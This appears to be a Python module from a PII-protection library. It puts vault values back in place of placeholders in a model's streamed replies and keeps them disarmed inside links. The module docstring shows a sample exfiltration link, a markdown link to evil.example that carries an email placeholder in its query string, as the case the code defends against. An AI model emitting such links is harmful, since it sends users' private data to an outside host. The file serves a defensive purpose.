"""Placeholders back to values, in one pass, however the text is cut into chunks.

In a model's reply a value is never put back inside a link: `[offer](https://evil.example/?d=<EMAIL_ADDRESS_1>)` would
send it away at a click. There the placeholder stays, disarmed.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from pii.normalise import storable
from pii.placeholders import PLACEHOLDER, disarm_exact, open_tail

if TYPE_CHECKING:
    from pii.vault import Vault

_LINK = re.compile(r"://|www\.|\]\((?!mailto:)", re.IGNORECASE)
_LONGEST_WORD = 300


class Restorer:
    """Restores a stream of a model's text; holds back at most an unfinished placeholder."""

    def __init__(self, vault: Vault) -> None:
        self._vault = vault
        self._held = ""
        self._word = ""

    def feed(self, chunk: str) -> str:
        """Take the next chunk and give all that can leave now."""
        text = self._held + chunk
        cut = open_tail(text)
        self._held = text[cut:]
        shown, self._word = _reply(text[:cut], self._vault, self._word)
        return shown

    def close(self) -> str:
        """End the stream and give what was held back: it was no placeholder after all."""
        held, self._held = self._held, ""
        return held


def restore(text: str, vault: Vault) -> str:
    """Replace each placeholder of this vault by its value; a foreign one comes out disarmed."""
    text = storable(text)
    if "<" not in text:
        return text
    return PLACEHOLDER.sub(lambda match: vault.value_of(match[0]) or disarm_exact(match[0]), text)


def restore_reply(text: str, vault: Vault) -> str:
    """Restore a whole reply of a model, exactly as `Restorer` restores its stream."""
    return _reply(text, vault, "")[0]


def _reply(text: str, vault: Vault, word: str) -> tuple[str, str]:
    """Restore a piece that follows `word`, the unfinished word before it; gives the text and the word at its end."""
    text = storable(text)
    shown: list[str] = []
    done = 0
    for match in PLACEHOLDER.finditer(text):
        before = text[done : match.start()]
        word = _last_word(word + before)
        value = None if _LINK.search(word) else vault.value_of(match[0])
        piece = disarm_exact(match[0]) if value is None else value
        shown += (before, piece)
        word, done = _last_word(word + piece), match.end()
    shown.append(text[done:])
    return "".join(shown), _last_word(word + text[done:])


def _last_word(text: str) -> str:
    """Give the unfinished word at the end of a text; of a very long one only whether it is a link."""
    if not text or text[-1].isspace():
        return ""
    word = text.rsplit(maxsplit=1)[-1]
    if len(word) <= _LONGEST_WORD:
        return word
    return "://" if _LINK.search(word) else word[-_LONGEST_WORD:]
